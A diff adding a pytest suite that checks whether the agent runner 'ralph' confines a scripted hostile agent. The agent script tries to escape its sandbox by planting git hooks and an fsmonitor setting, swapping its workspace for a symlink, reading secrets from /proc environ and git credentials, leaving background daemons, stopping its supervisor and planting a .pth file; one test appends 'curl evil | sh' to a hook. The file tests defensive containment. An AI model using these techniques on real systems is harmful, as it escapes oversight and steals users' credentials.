@@ -1,0 +1,298 @@
+"""A hostile lap against the promise that the user's repository, secrets and processes are out
+of its reach: sandboxed (bubblewrap) it cannot get there at all; unsandboxed, what ralph
+promises for the fallback holds (put back, never followed, never deleted)."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import subprocess
+import sys
+import sysconfig
+from pathlib import Path
+
+import pytest
+
+from conftest import git, lap_notes, make_repo, ralph, snapshot
+
+PY = sys.executable
+needs_bwrap = pytest.mark.skipif(subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True).returncode,
+                                 reason="bubblewrap is not installed (.ci/run installs it)")
+
+# Every attack is a function of the agent script below; a test names the ones its agent runs.
+# `users` is the repository's git dir as an attacker finds it: the lap's alternates name its objects.
+ATTACKS = r'''
+import glob, json, os, pathlib, signal, subprocess, sys
+lap = int(os.environ["RALPH_LAP"])
+out = pathlib.Path(os.environ["OUT"])
+sh = lambda cmd: subprocess.run(cmd, shell=True, capture_output=True, text=True)
+alternates = sh("git rev-parse --git-path objects/info/alternates").stdout.strip()
+users = pathlib.Path(pathlib.Path(alternates).read_text().strip()).parent
+top = users.parent
+def note(name, text):
+    (out / name).write_text(text)
+def write(path, text):
+    try:
+        pathlib.Path(path).write_text(text)
+    except OSError as exc:
+        note("refused-" + pathlib.Path(path).name, str(exc))
+
+def swap_workspace_for_the_repository():
+    here = pathlib.Path.cwd()
+    os.chdir("/")
+    os.rename(here, str(here) + ".moved")
+    os.symlink(top, here)
+    os.chdir(str(here) + ".moved")  # the agent's own files stay its own; ralph must not follow the link
+
+def plant_in_the_git_dir():
+    sh(f"git --git-dir {users} update-ref -d refs/heads/main")
+    write(users / "objects/info/alternates", "/nonexistent/objects\n")
+    write(users / "shallow", sh("git rev-parse HEAD").stdout)
+    write(users / "MERGE_HEAD", sh("git rev-parse HEAD").stdout)
+    write(users / "config.worktree", "[core]\n\thooksPath = /tmp/agent-hooks\n")
+    write(users / "hooks/reference-transaction", "#!/bin/sh\nexit 1\n")
+    os.chmod(users / "hooks/reference-transaction", 0o755) if (users / "hooks/reference-transaction").exists() else None
+    sh(f"git --git-dir {users} config core.fsmonitor 'touch /tmp/owned'")
+
+def replace_a_hook_by_a_folder():
+    hook = users / "hooks" / "pre-push"
+    try:
+        hook.unlink()
+        hook.mkdir()
+    except OSError as exc:
+        note("refused-pre-push", str(exc))
+
+def stash_and_branch():
+    pathlib.Path("calc.py").write_text("stashed edit\n")
+    note("stash", sh("git stash").stdout + sh("git stash list").stdout)
+    sh("git branch -f main HEAD")
+    sh("git checkout -q -b agent-branch")
+
+def point_dot_git_elsewhere():
+    fake = out / "fake"
+    sh(f"git init -q {fake} && cp calc.py {fake}/ && git -C {fake} add -A && git -C {fake} -c user.name=a -c user.email=a@b commit -qm good")
+    pathlib.Path(".git").write_text(f"gitdir: {fake}/.git\n")
+
+def read_secrets():
+    found = []
+    for environ in glob.glob("/proc/*/environ"):
+        try:
+            data = pathlib.Path(environ).read_bytes()
+        except OSError:
+            continue
+        if b"canary" in data and not environ.startswith(f"/proc/{os.getpid()}/"):
+            found.append(environ)
+    filled = sh("printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill").stdout
+    note("secrets", json.dumps({"environ": found, "credential": filled, "sock": os.environ.get("SSH_AUTH_SOCK")}))
+
+def leave_daemons():
+    sh("setsid env -i sh -c 'sleep 997' > /dev/null 2>&1 &")
+    sh("nohup sleep 998 > /dev/null 2>&1 &")
+
+def stop_ralph():
+    pid = os.getppid()
+    while pid > 1:
+        os.kill(pid, signal.SIGSTOP) if b"ralph" in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes() else None
+        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+
+def plant_a_pth():
+    import sysconfig
+    write(pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_ralph_attack.pth", "import os\n")
+
+for attack in os.environ["ATTACKS"].split():
+    if lap == 1:
+        globals()[attack]()
+calc = pathlib.Path("calc.py")
+calc.write_text("def add(a, b):\n    return a + b\n")
+todo = pathlib.Path("TODO.md")
+todo.write_text(todo.read_text().replace("- [ ]", "- [x]", 1))
+'''
+
+
+def hostile(tmp_path: Path, attacks: str, sandbox: str = "auto", check: str = "grep -q 'a + b' calc.py",
+            items: int = 1) -> tuple[Path, dict]:
+    """A repository whose lap-1 agent runs `attacks`; returns it and the environment to run ralph with."""
+    out = tmp_path / "out"
+    out.mkdir()
+    agent = tmp_path / "agent.py"
+    agent.write_text(ATTACKS)
+    config = {"goal": "g", "agent": {"kind": "command", "command": f"{PY} {agent}"}, "checks": [check],
+              "limits": {"max_laps": 2}, "sandbox": {"mode": sandbox, "writable": [str(out)]}}
+    todo = "".join(f"- [ ] item {n}\n" for n in range(items))
+    repo = make_repo(tmp_path / "repo", {"calc.py": "def add(a, b):\n    raise NotImplementedError\n",
+                                         "TODO.md": todo, "ralph.yaml": json.dumps(config)})
+    (repo / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nexit 0\n")
+    # The user's git can hand out a password: a lap must not get it.
+    (Path.home() / ".git-credentials").write_text("https://user:canary-credential@github.com\n")
+    git(repo, "config", "--global", "credential.helper", "store")
+    return repo, {"OUT": str(out), "ATTACKS": attacks}
+
+
+def git_dir_state(repo: Path) -> dict[str, str]:
+    """Every file of the git dir but object data, ralph's refs, logs and folder; plus the work tree."""
+    state = snapshot(repo)
+    common = repo / ".git"
+    for path in sorted(common.rglob("*")):
+        name = str(path.relative_to(common))
+        ralphs = any(part in name for part in ("refs/ralph", "refs/heads/ralph", "refs/notes", "logs/"))
+        objects = name.startswith("objects/") and not name.startswith("objects/info")
+        if path.is_file() and not (ralphs or objects or name.startswith("ralph/") or name == "packed-refs"):
+            state[".git/" + name] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return state
+
+
+@needs_bwrap
+def test_one_lap_that_tries_everything_leaves_the_repository_byte_identical(tmp_path: Path):
+    repo, env = hostile(tmp_path, "plant_in_the_git_dir replace_a_hook_by_a_folder stash_and_branch read_secrets "
+                                  "leave_daemons stop_ralph plant_a_pth point_dot_git_elsewhere")
+    before = git_dir_state(repo)
+    result = ralph(repo, "run", "--name", "r", env=dict(env, GITHUB_TOKEN="canary-token"))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert git_dir_state(repo) == before
+    (lap,) = lap_notes(repo, "r")
+    assert lap["status"] == "green" and git(repo, "rev-parse", "ralph/r") == lap["commit"]
+    out = tmp_path / "out"
+    for planted in ("alternates", "shallow", "MERGE_HEAD", "config.worktree", "reference-transaction"):
+        assert "Read-only file system" in (out / f"refused-{planted}").read_text()
+    seen = json.loads((out / "secrets").read_text())
+    assert seen == {"environ": [], "credential": "", "sock": None}
+    assert "No local changes to save" not in (out / "stash").read_text()  # it stashed, in its own git dir
+    assert not subprocess.run(["pgrep", "-f", "sleep 99[78]"], capture_output=True).stdout
+    assert not (Path(sysconfig.get_paths()["purelib"]) / "zz_ralph_attack.pth").exists()
+
+
+@needs_bwrap
+def test_a_lap_cannot_swap_its_workspace_for_a_link_to_the_repository(tmp_path: Path):
+    repo, env = hostile(tmp_path, "swap_workspace_for_the_repository")
+    before = git_dir_state(repo)
+    result = ralph(repo, "run", "--name", "r", env=env)
+    assert result.returncode == 0, result.stdout + result.stderr  # the rename failed: read-only
+    assert git_dir_state(repo) == before
+
+
+def test_unsandboxed_a_swapped_workspace_stops_the_run_and_nothing_is_followed(tmp_path: Path):
+    repo, env = hostile(tmp_path, "swap_workspace_for_the_repository", sandbox="off")
+    before = git_dir_state(repo)
+    result = ralph(repo, "run", "--name", "r", env=env)
+    assert result.returncode == 1
+    assert "the lap replaced ralph's workspace folder" in result.stderr
+    assert git_dir_state(repo) == before and (repo / ".git" / "HEAD").is_file()
+
+
+def test_unsandboxed_what_a_lap_plants_in_the_git_dir_is_put_back(tmp_path: Path):
+    repo, env = hostile(tmp_path, "plant_in_the_git_dir replace_a_hook_by_a_folder", sandbox="off")
+    before = git_dir_state(repo)
+    result = ralph(repo, "run", "--name", "r", env=env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    first, second = lap_notes(repo, "r")
+    assert first["status"] == "red" and second["status"] == "green"
+    for what in ("objects/info/alternates added", "shallow added", "MERGE_HEAD added", "config.worktree added",
+                 "hooks/reference-transaction added", "hooks/pre-push deleted", "config changed",
+                 "refs/heads/main deleted"):
+        assert what in first["reason"]
+    assert git_dir_state(repo) == before
+
+
+def test_unsandboxed_the_agents_git_works_on_its_own_git_dir(tmp_path: Path):
+    repo, env = hostile(tmp_path, "stash_and_branch point_dot_git_elsewhere", sandbox="off")
+    git(repo, "stash", "list")
+    (repo / "calc.py").write_text("the user's own edit\n")
+    git(repo, "stash")
+    before = git_dir_state(repo)
+    result = ralph(repo, "run", "--name", "r", env=env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert git_dir_state(repo) == before
+    assert git(repo, "stash", "list").count("\n") == 0 and "stash@{0}" in git(repo, "stash", "list")
+    assert git(repo, "show", "ralph/r:calc.py") == "def add(a, b):\n    return a + b"
+
+
+def test_unsandboxed_stray_processes_are_ended_and_ralphs_environ_holds_no_secret(tmp_path: Path):
+    repo, env = hostile(tmp_path, "leave_daemons read_secrets", sandbox="off")
+    result = ralph(repo, "run", "--name", "r", env=dict(env, GITHUB_TOKEN="canary-token"))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert not subprocess.run(["pgrep", "-f", "sleep 99[78]"], capture_output=True).stdout
+    seen = json.loads((tmp_path / "out" / "secrets").read_text())
+    # The test process that started ralph holds the canary too; ralph itself must not.
+    ralphs = [path for path in seen["environ"] if b"-m\0ralph" in _cmdline(path)]
+    assert ralphs == [] and seen["credential"] == ""
+
+
+def _cmdline(environ: str) -> bytes:
+    try:
+        return Path(environ).with_name("cmdline").read_bytes()
+    except OSError:
+        return b""
+
+
+def test_a_rewritten_crash_snapshot_is_refused(tmp_path: Path):
+    """The snapshot a killed unsandboxed lap leaves is checked before anything is written."""
+    from ralph.user_state import saved_at
+
+    repo, env = hostile(tmp_path, "", sandbox="off")
+    first = ralph(repo, "run", "--name", "r", env=dict(env, RALPH_DEBUG_STOP_AT="agent"))
+    assert first.returncode == -9
+    saved = saved_at((repo / ".git").resolve(), "r")
+    victim = tmp_path / "victim.txt"
+    victim.write_text("mine")
+    data = json.loads(saved.read_text())
+    data["files"]["../../victim.txt"] = "b3duZWQ="
+    saved.write_text(json.dumps(data))
+    resumed = ralph(repo, "run", "--name", "r", env=env)
+    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
+    assert "names what ralph never watches" in resumed.stderr
+    assert victim.read_text() == "mine"
+
+
+def test_sandbox_required_without_bubblewrap_refuses_to_start(tmp_path: Path):
+    repo, env = hostile(tmp_path, "", sandbox="required")
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "git").symlink_to(subprocess.run(["sh", "-c", "command -v git"], capture_output=True,
+                                                text=True).stdout.strip())
+    result = ralph(repo, "run", "--name", "r", env=dict(env, PATH=str(bin_dir)))
+    assert result.returncode == 1
+    assert "sandbox: required, but bubblewrap (`bwrap`) is not installed" in result.stderr
+    assert git(repo, "for-each-ref", "refs/ralph/") == ""
+
+
+def test_a_writable_path_holding_the_repository_is_refused(tmp_path: Path):
+    repo, env = hostile(tmp_path, "")
+    config = json.loads((repo / "ralph.yaml").read_text())
+    config["sandbox"]["writable"] = [str(tmp_path)]
+    (repo / "ralph.yaml").write_text(json.dumps(config))
+    git(repo, "commit", "-qam", "too wide")
+    result = ralph(repo, "run", "--name", "r", env=env)
+    assert result.returncode == 1
+    assert f"sandbox.writable: {tmp_path} would make {repo} writable to laps" in result.stderr
+
+
+def test_doctor_says_whether_laps_can_be_sandboxed(tmp_path: Path):
+    result = ralph(tmp_path, "doctor")
+    works = not subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True).returncode
+    assert result.returncode == (0 if works else 1)
+    assert ("sandbox      works" in result.stdout) == works
+
+
+def test_land_refuses_to_overwrite_an_ignored_file(tmp_path: Path):
+    config = {"goal": "g", "checks": ["true"],
+              "agent": {"kind": "command", "command": "echo built > build.txt && sed -i 's/\\[ \\]/[x]/' TODO.md"}}
+    repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] build\n"})
+    assert ralph(repo, "run", "--name", "r").returncode == 0
+    (repo / ".git" / "info" / "exclude").write_text("build.txt\n")  # the user ignores a build.txt of their own
+    (repo / "build.txt").write_text("the user's own build output")
+    result = ralph(repo, "land")
+    assert result.returncode == 1 and "would overwrite files git does not track here: build.txt" in result.stderr
+    assert (repo / "build.txt").read_text() == "the user's own build output"
+
+
+def test_land_refuses_changes_to_hooks_in_the_work_tree(tmp_path: Path):
+    tick = "sed -i 's/\\[ \\]/[x]/' TODO.md"
+    config = {"goal": "g", "agent": {"kind": "command", "command": f"echo 'curl evil | sh' >> .hooks/pre-commit && {tick}"},
+              "checks": ["true"], "protect": []}
+    repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] hooks\n",
+                                         ".hooks/pre-commit": "#!/bin/sh\nexit 0\n"})
+    git(repo, "config", "core.hooksPath", ".hooks")
+    assert ralph(repo, "run", "--name", "r").returncode == 0
+    result = ralph(repo, "land")
+    assert result.returncode == 1 and "the run changed your git hooks (.hooks/pre-commit" in result.stderr
+    assert "evil" not in (repo / ".hooks" / "pre-commit").read_text()
